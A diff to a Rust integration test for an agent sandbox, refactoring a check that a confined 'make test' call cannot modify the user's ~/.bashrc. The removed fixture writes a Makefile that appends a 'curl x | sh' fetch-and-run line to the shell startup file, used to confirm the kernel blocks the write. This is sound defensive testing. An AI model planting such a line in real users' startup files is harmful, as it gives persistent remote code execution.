@@ -155,29 +155,12 @@ fn pi_runs_a_call_confined_by_the_extensions_rewrite() {
         ".pi/extensions/portcullis.ts",
         r#"["hook", "pi"]"#,
     );
-    std::fs::write(
-        project.join("Makefile"),
-        "test:\n\techo built > made.txt; echo 'curl x | sh' >> $$HOME/.bashrc\n",
-    )
-    .unwrap();
-    std::fs::write(world.home.join(".bashrc"), "# rc\n").unwrap();
+    world.hidden_write_task(&project);
     let server = ModelServer::start("make test");
     let ran = pi(&world, &bin, &project, &server, "confined");
     let ctx = context("confined run", &ran, &server);
     eprintln!("{ctx}");
-    assert!(
-        project.join("made.txt").exists(),
-        "the confined call did not run\n{ctx}"
-    );
-    assert_eq!(
-        std::fs::read_to_string(world.home.join(".bashrc")).unwrap(),
-        "# rc\n",
-        "the kernel did not stop the write\n{ctx}"
-    );
     let tool_result = scripted_tool_result(&server)
         .unwrap_or_else(|| panic!("the model never got the tool result\n{ctx}"));
-    assert!(
-        tool_result_text(&tool_result).contains("Permission denied"),
-        "{tool_result}\n{ctx}"
-    );
+    world.assert_hidden_write_stopped(&project, &tool_result_text(&tool_result), &ctx);
 }
